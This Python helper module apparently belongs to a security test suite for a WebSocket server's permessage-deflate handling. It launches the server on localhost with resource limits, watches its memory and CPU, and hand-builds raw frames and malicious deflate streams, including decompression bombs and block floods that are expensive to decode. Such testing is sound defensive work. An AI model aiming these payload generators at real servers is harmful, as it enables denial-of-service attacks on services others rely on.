"""Shared pieces of the issue-14 (permessage-deflate) attacks: the server under
test, a /proc monitor, the echo-latency probe process, raw WebSocket frames
with RSV1, and a bit writer to craft raw deflate streams by hand.

Python 3 standard library only (zlib for ordinary compression). Everything
talks to 127.0.0.1 and every wait has a timeout.
"""
import json
import os
import random
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
CLI = os.environ.get("POLLSERVE_BIN", os.path.join(ROOT, "target/release/pollserve"))
RESULTS = os.path.join(HERE, "results")
CLK_TCK = os.sysconf("SC_CLK_TCK")
PAGE = os.sysconf("SC_PAGE_SIZE")

BROWSER_OFFER = "permessage-deflate; client_max_window_bits"


def mono():
    return time.monotonic()


def raise_fd_limit(n=30000):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(n, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def wait_port(port, proc=None, secs=20):
    end = mono() + secs
    while mono() < end:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return
        except OSError:
            if proc is not None and proc.poll() is not None:
                raise RuntimeError(f"server exited with {proc.returncode}")
            time.sleep(0.05)
    raise RuntimeError("server did not start")


# --------------------------------------------------------------------------
# /proc
# --------------------------------------------------------------------------

def proc_mem(pid):
    """(VmRSS kB, VmHWM kB, VmSize kB) or None when the process is gone."""
    out = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                k, _, v = line.partition(":")
                if k in ("VmRSS", "VmHWM", "VmSize"):
                    out[k] = int(v.split()[0])
    except (FileNotFoundError, ProcessLookupError):
        return None
    if "VmRSS" not in out:
        return None  # a zombie: the process has exited
    return out.get("VmRSS"), out.get("VmHWM"), out.get("VmSize")


def proc_cpu(pid):
    """utime + stime in seconds, or None."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            s = f.read()
    except (FileNotFoundError, ProcessLookupError):
        return None
    fields = s[s.rindex(")") + 2:].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def proc_wait(pid):
    """Seconds the process was runnable but waiting for a CPU (schedstat)."""
    try:
        with open(f"/proc/{pid}/schedstat") as f:
            return int(f.read().split()[1]) / 1e9
    except (FileNotFoundError, ProcessLookupError, IndexError, ValueError):
        return None


def proc_fds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except (FileNotFoundError, ProcessLookupError):
        return None


class Monitor(threading.Thread):
    """Samples RSS / HWM / VmSize / CPU of `pid` every `interval` seconds."""

    def __init__(self, pid, interval=0.1):
        super().__init__(daemon=True)
        self.pid = pid
        self.interval = interval
        self.samples = []  # (t, rss, hwm, vsz, cpu, runq wait)
        self.stop_ev = threading.Event()

    def run(self):
        while not self.stop_ev.is_set():
            m = proc_mem(self.pid)
            c = proc_cpu(self.pid)
            w = proc_wait(self.pid)
            if m is None or c is None or m[0] is None:
                break
            self.samples.append((mono(), m[0], m[1], m[2], c, w or 0.0))
            self.stop_ev.wait(self.interval)

    def stop(self):
        self.stop_ev.set()
        self.join(2)

    def window(self, t0, t1):
        """Stats over samples in [t0, t1]: RSS start/peak/end (MB), HWM at
        the end (MB), CPU % of one core."""
        s = [x for x in self.samples if t0 <= x[0] <= t1]
        if len(s) < 2:
            return {}
        dt = s[-1][0] - s[0][0]
        return {
            "secs": round(t1 - t0, 1),
            "rss_start_mb": round(s[0][1] / 1024, 1),
            "rss_peak_mb": round(max(x[1] for x in s) / 1024, 1),
            "rss_end_mb": round(s[-1][1] / 1024, 1),
            "hwm_mb": round(s[-1][2] / 1024, 1),
            "vsz_peak_mb": round(max(x[3] for x in s) / 1024, 1),
            "cpu_pct": round(100 * (s[-1][4] - s[0][4]) / dt, 1) if dt > 0 else None,
            "cpu_s": round(s[-1][4] - s[0][4], 2),
            # runnable but waiting for a CPU: the machine, not the server,
            # set the pace for that share of the time
            "runq_wait_pct": round(100 * (s[-1][5] - s[0][5]) / dt, 1) if dt > 0 else None,
        }


# --------------------------------------------------------------------------
# The server under test
# --------------------------------------------------------------------------

class Server:
    """`pollserve demo` (or any command given as `args`, where `{port}` is
    replaced) on a free port, stderr to results/TAG.server.log.

    `as_limit_mb`: RLIMIT_AS of the server, so a runaway allocation aborts
    the server instead of waking the machine's OOM killer (the machine is
    shared)."""

    def __init__(self, tag, takeover=False, extra=(), args=None, as_limit_mb=None,
                 nofile=30000, env=None):
        os.makedirs(RESULTS, exist_ok=True)
        self.tag = tag
        self.port = free_port()
        if args is None:
            args = [CLI, "demo", "--port", "{port}", "--quiet"]
            if takeover:
                args.append("--deflate-context-takeover")
        args = [a.replace("{port}", str(self.port)) for a in args] + list(extra)
        self.args = args

        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        nofile = min(nofile, hard)

        def limits():
            resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, hard))
            if as_limit_mb:
                lim = as_limit_mb << 20
                resource.setrlimit(resource.RLIMIT_AS, (lim, lim))

        self.log_path = os.path.join(RESULTS, f"{tag}.server.log")
        self.log = open(self.log_path, "w")
        self.proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=self.log,
                                     preexec_fn=limits, env=dict(os.environ, **(env or {})))
        self.pid = self.proc.pid
        wait_port(self.port, self.proc)
        self.mon = Monitor(self.pid)
        self.mon.start()

    def alive(self):
        return self.proc.poll() is None

    def mem(self):
        return proc_mem(self.pid)

    def cpu(self):
        return proc_cpu(self.pid)

    def stop(self):
        """Stops the server; returns its exit status if it had died on its
        own (None if it was alive until now)."""
        died = self.proc.poll()
        self.mon.stop()
        if died is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log.close()
        return died


class Probe:
    """The normal client (probe14.py, its own process so the attacker's GIL
    cannot delay it): one /ws/echo connection that negotiated
    permessage-deflate like a browser, `n` round trips of a 200-byte JSON
    text message (compressed, echoed compressed), `interval` s apart."""

    def __init__(self, port, tag, n=200, interval=0.05, timeout=10.0, path="/ws/echo",
                 delay=0.0):
        self.out = os.path.join(RESULTS, f"{tag}.probe.json")
        try:
            os.unlink(self.out)
        except FileNotFoundError:
            pass
        self.proc = subprocess.Popen(
            [sys.executable, os.path.join(HERE, "probe14.py"), "--port", str(port),
             "--n", str(n), "--interval", str(interval), "--timeout", str(timeout),
             "--out", self.out, "--path", path, "--delay", str(delay)])

    def result(self, wait=120):
        try:
            self.proc.wait(wait)
        except subprocess.TimeoutExpired:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(10)
        try:
            with open(self.out) as f:
                return json.load(f)
        except (FileNotFoundError, json.JSONDecodeError):
            return {"error": "no probe result"}


def fmt_probe(p):
    if not p or "p50_ms" not in p:
        return f"probe: {p}"
    return (f"echo RTT p50={p['p50_ms']} p99={p['p99_ms']} max={p['max_ms']} ms "
            f"({p['ok']}/{p['n']} ok, {p['fail']} fail)")


def fmt_mon(m):
    if not m:
        return "mon: -"
    return (f"RSS {m['rss_start_mb']}->{m['rss_peak_mb']}(peak)->{m['rss_end_mb']} MB, "
            f"HWM {m['hwm_mb']} MB, CPU {m['cpu_pct']}% ({m['cpu_s']} s), "
            f"runq wait {m.get('runq_wait_pct')}%")


def save(tag, obj):
    os.makedirs(RESULTS, exist_ok=True)
    with open(os.path.join(RESULTS, f"{tag}.json"), "w") as f:
        json.dump(obj, f, indent=1, default=str)


# --------------------------------------------------------------------------
# WebSocket client side
# --------------------------------------------------------------------------

KEY = "dGhlIHNhbXBsZSBub25jZQ=="


def handshake_bytes(path="/ws/echo", ext=BROWSER_OFFER, extra_headers=""):
    h = (f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
         f"Connection: Upgrade\r\nSec-WebSocket-Key: {KEY}\r\nSec-WebSocket-Version: 13\r\n")
    if ext is not None:
        h += f"Sec-WebSocket-Extensions: {ext}\r\n"
    return (h + extra_headers + "\r\n").encode()


def read_head(s, timeout=10.0):
    """Reads an HTTP response head; returns (status, {lower name: [values]}, rest)."""
    end = mono() + timeout
    buf = b""
    while b"\r\n\r\n" not in buf:
        s.settimeout(max(0.01, end - mono()))
        d = s.recv(65536)
        if not d:
            raise ConnectionError(f"closed during handshake after {buf[:60]!r}")
        buf += d
    head, _, rest = buf.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    try:
        status = int(lines[0].split()[1])
    except (IndexError, ValueError):
        status = None
    hdrs = {}
    for l in lines[1:]:
        k, _, v = l.partition(":")
        hdrs.setdefault(k.strip().lower(), []).append(v.strip())
    return status, hdrs, rest


def ws_open(port, path="/ws/echo", ext=BROWSER_OFFER, timeout=10.0, rcvbuf=None,
            extra_headers=""):
    """Opens a WebSocket; returns (sock, negotiated extension string or None,
    leftover bytes). Raises ConnectionError unless 101."""
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect(("127.0.0.1", port))
    s.sendall(handshake_bytes(path, ext, extra_headers))
    status, hdrs, rest = read_head(s, timeout)
    if status != 101:
        s.close()
        raise ConnectionError(f"handshake status {status}")
    exts = hdrs.get("sec-websocket-extensions")
    return s, (exts[0] if exts else None), rest


ZERO_MASK = b"\0\0\0\0"


def frame(opcode, payload=b"", fin=True, rsv=0, mask=ZERO_MASK, length=None):
    """A client frame; `rsv` is the RSV bits as 0-7 (4 = RSV1). A zero mask
    keeps big payloads cheap to build (any key is valid, RFC 6455 §5.3)."""
    n = len(payload) if length is None else length
    b0 = (0x80 if fin else 0) | (rsv << 4) | opcode
    if n < 126:
        head = struct.pack("!BB", b0, 0x80 | n)
    elif n < 65536:
        head = struct.pack("!BBH", b0, 0x80 | 126, n)
    else:
        head = struct.pack("!BBQ", b0, 0x80 | 127, n)
    if mask != ZERO_MASK and payload:
        k = int.from_bytes(mask * ((len(payload) + 3) // 4), "little")
        payload = (int.from_bytes(payload, "little") ^ k).to_bytes(
            len(payload) + 4, "little")[:len(payload)]
    return head + mask + payload


def fragments(opcode, payload, size, rsv1=True):
    """A message split into frames of `size` payload bytes, RSV1 on the first."""
    parts = [payload[i:i + size] for i in range(0, len(payload), size)] or [b""]
    out = []
    for i, p in enumerate(parts):
        op = opcode if i == 0 else 0
        out.append(frame(op, p, fin=(i == len(parts) - 1), rsv=(4 if (i == 0 and rsv1) else 0)))
    return b"".join(out)


def close_frame(code=1000):
    return frame(8, struct.pack("!H", code))


def compress_msg(data, level=6, wbits=15, comp=None):
    """permessage-deflate payload of `data`: raw deflate, sync flush, tail
    stripped. With `comp` (a compressobj) the context is kept."""
    c = comp or zlib.compressobj(level, zlib.DEFLATED, -wbits)
    out = c.compress(data) + c.flush(zlib.Z_SYNC_FLUSH)
    assert out.endswith(b"\x00\x00\xff\xff")
    return out[:-4]


def inflate_msg(payload, dec=None):
    d = dec or zlib.decompressobj(-15)
    return d.decompress(payload + b"\x00\x00\xff\xff")


class Reader:
    """Incremental parser of server frames (unmasked), keeping RSV bits."""

    def __init__(self):
        self.buf = bytearray()

    def feed(self, data):
        self.buf += data
        out = []
        while True:
            b = self.buf
            if len(b) < 2:
                break
            b0, b1 = b[0], b[1]
            n = b1 & 0x7F
            i = 2
            if n == 126:
                if len(b) < 4:
                    break
                n = struct.unpack("!H", b[2:4])[0]
                i = 4
            elif n == 127:
                if len(b) < 10:
                    break
                n = struct.unpack("!Q", b[2:10])[0]
                i = 10
            if len(b) < i + n:
                break
            payload = bytes(b[i:i + n])
            del self.buf[:i + n]
            out.append((b0 & 0x80 != 0, (b0 >> 4) & 7, b0 & 0x0F, payload))
        return out


def close_code_of(payload):
    return struct.unpack("!H", payload[:2])[0] if len(payload) >= 2 else 1005


def read_until_close(s, timeout=10.0, limit=64 << 20, answer_close=True):
    """Reads frames until a close frame, EOF or the timeout. Returns a dict:
    close code (or 'EOF'/'RST'/'timeout'), seconds, frames seen, data bytes."""
    r = Reader()
    t0 = mono()
    end = t0 + timeout
    frames = 0
    data = 0
    got = 0
    first_data = None
    while mono() < end and got < limit:
        s.settimeout(max(0.01, end - mono()))
        try:
            d = s.recv(1 << 20)
        except socket.timeout:
            return {"end": "timeout", "secs": round(mono() - t0, 3), "frames": frames,
                    "data": data, "first": first_data}
        except (ConnectionResetError, BrokenPipeError):
            return {"end": "RST", "secs": round(mono() - t0, 3), "frames": frames,
                    "data": data, "first": first_data}
        if not d:
            return {"end": "EOF", "secs": round(mono() - t0, 3), "frames": frames,
                    "data": data, "first": first_data}
        got += len(d)
        for fin, rsv, op, p in r.feed(d):
            frames += 1
            if op == 8:
                if answer_close:
                    try:
                        s.sendall(close_frame(close_code_of(p) if len(p) >= 2 else 1000))
                    except OSError:
                        pass
                return {"end": close_code_of(p), "secs": round(mono() - t0, 3),
                        "frames": frames, "data": data, "first": first_data,
                        "reason": p[2:].decode("utf-8", "replace")}
            if op in (1, 2, 0):
                data += len(p)
                if first_data is None:
                    first_data = (fin, rsv, op, p[:64])
    return {"end": "limit" if got >= limit else "timeout", "secs": round(mono() - t0, 3),
            "frames": frames, "data": data, "first": first_data}


# --------------------------------------------------------------------------
# Hand-made raw deflate
# --------------------------------------------------------------------------

class BitWriter:
    """LSB-first bit writer (RFC 1951 §3.1.1)."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def bits(self, value, count):
        """`count` bits of `value`, least significant first (header fields,
        extra bits)."""
        self.acc |= (value & ((1 << count) - 1)) << self.n
        self.n += count
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def code(self, code, length):
        """A Huffman code, most significant bit first."""
        rev = 0
        for i in range(length):
            rev |= ((code >> i) & 1) << (length - 1 - i)
        self.bits(rev, length)

    def align(self):
        if self.n:
            self.bits(0, 8 - self.n)

    def getvalue(self, pad=True):
        out = bytes(self.out)
        if pad and self.n:
            out += bytes([self.acc & 0xFF])
        return out


def fixed_lit(w, sym):
    """A literal/length symbol with the fixed code (RFC 1951 §3.2.6)."""
    if sym < 144:
        w.code(0x30 + sym, 8)
    elif sym < 256:
        w.code(0x190 + sym - 144, 9)
    elif sym < 280:
        w.code(sym - 256, 7)
    else:
        w.code(0xC0 + sym - 280, 8)


def empty_fixed_blocks(n, final_last=False):
    """`n` empty fixed-Huffman blocks (10 bits each), bit-packed."""
    w = BitWriter()
    for i in range(n):
        w.bits(1 if (final_last and i == n - 1) else 0, 1)
        w.bits(1, 2)
        fixed_lit(w, 256)
    return w


def empty_stored_blocks(n):
    """`n` empty stored blocks: 00 00 00 ff ff each (5 bytes)."""
    return b"\x00\x00\x00\xff\xff" * n


def tiny_stored_blocks(n, byte=b"a"):
    """`n` stored blocks of one byte each (6 bytes in, 1 byte out)."""
    return (b"\x00\x01\x00\xfe\xff" + byte) * n


def dynamic_one_literal_blocks(n, lit=ord("a")):
    """`n` dynamic-Huffman blocks, each declaring a fresh code (HLIT 257,
    HDIST 1, 18 code-length codes) and coding one literal: ~13 bytes of
    input per output byte, and a table build per block."""
    w = BitWriter()
    # Code-length code: symbol 18 -> "0" (1 bit), 0 -> "10", 1 -> "11".
    cl_order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
    cl_len = {18: 1, 0: 2, 1: 2}
    cl_code = {18: 0b0, 0: 0b10, 1: 0b11}
    for _ in range(n):
        w.bits(0, 1)          # BFINAL
        w.bits(2, 2)          # BTYPE dynamic
        w.bits(0, 5)          # HLIT = 257
        w.bits(0, 5)          # HDIST = 1
        w.bits(18 - 4, 4)     # HCLEN = 18
        for sym in cl_order[:18]:
            w.bits(cl_len.get(sym, 0), 3)

        def zeros(k):
            while k >= 11:
                run = min(k, 138)
                w.code(cl_code[18], 1)
                w.bits(run - 11, 7)
                k -= run
            for _ in range(k):
                w.code(cl_code[0], 2)

        zeros(lit)
        w.code(cl_code[1], 2)          # the literal: length 1
        zeros(256 - lit - 1)
        w.code(cl_code[1], 2)          # 256 (end of block): length 1
        w.code(cl_code[0], 2)          # the one distance code: unused
        # lit -> code 0, 256 -> code 1 (canonical order by symbol)
        w.code(0, 1)
        w.code(1, 1)
    return w


def final_empty_streams(n):
    """`n` complete streams, each one empty final fixed block (2 bytes per
    stream once byte-aligned: the inflater restarts after each)."""
    # BFINAL=1, BTYPE=01, EOB=0000000 -> 10 bits, padded to 2 bytes.
    return b"\x03\x00" * n


def far_reference_bomb(out_len):
    """Random 32 KiB in a stored block, then (length 258, distance 32768)
    references with a dynamic code of 1-bit symbols: ~15 bits per 258 bytes
    out, every copy reaching the far end of the window."""
    prefix = random.randbytes(32768)
    w = BitWriter()
    # stored block(s) of the prefix (max 65535 per block)
    w.bits(0, 1)
    w.bits(0, 2)
    w.align()
    w.bits(len(prefix), 16)
    w.bits(len(prefix) ^ 0xFFFF, 16)
    for b in prefix:
        w.bits(b, 8)
    reps = max(1, (out_len - len(prefix)) // 258)
    # One dynamic block: lit/len code lengths: 256 -> 1, 285 -> 1; HLIT=286.
    # dist code lengths: 29 -> 1, plus 0 -> 1 (zlib wants a complete or
    # single-code set; two codes of length 1 is complete).
    cl_order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
    cl_len = {18: 1, 0: 2, 1: 2}
    cl_code = {18: 0b0, 0: 0b10, 1: 0b11}
    w.bits(0, 1)
    w.bits(2, 2)
    w.bits(286 - 257, 5)
    w.bits(30 - 1, 5)
    w.bits(18 - 4, 4)
    for sym in cl_order[:18]:
        w.bits(cl_len.get(sym, 0), 3)

    def zeros(k):
        while k >= 11:
            run = min(k, 138)
            w.code(cl_code[18], 1)
            w.bits(run - 11, 7)
            k -= run
        for _ in range(k):
            w.code(cl_code[0], 2)

    def one():
        w.code(cl_code[1], 2)

    # literal/length lengths, symbols 0..285
    zeros(256)
    one()          # 256
    zeros(285 - 257)
    one()          # 285
    # distance lengths, symbols 0..29
    one()          # 0
    zeros(28)
    one()          # 29
    # lit codes: 256 -> 0, 285 -> 1 ; dist codes: 0 -> 0, 29 -> 1
    for _ in range(reps):
        w.code(1, 1)           # length 258
        w.code(1, 1)           # distance code 29
        w.bits(32768 - 24577, 13)
    w.code(0, 1)               # end of block
    # sync flush: empty stored block, then the tail gets stripped
    w.bits(0, 1)
    w.bits(0, 2)
    w.align()
    data = w.getvalue() + b"\x00\x00\xff\xff"
    return data[:-4], 32768 + reps * 258


def zero_bomb(out_len, level=9):
    """`out_len` zero bytes compressed (tail stripped)."""
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts = []
    left = out_len
    while left > 0:
        k = min(left, len(chunk))
        parts.append(c.compress(chunk[:k]))
        left -= k
    parts.append(c.flush(zlib.Z_SYNC_FLUSH))
    out = b"".join(parts)
    return out[:-4]


def pct(xs, q):
    if not xs:
        return None
    xs = sorted(xs)
    i = min(len(xs) - 1, max(0, int(round(q / 100 * (len(xs) - 1)))))
    return xs[i]
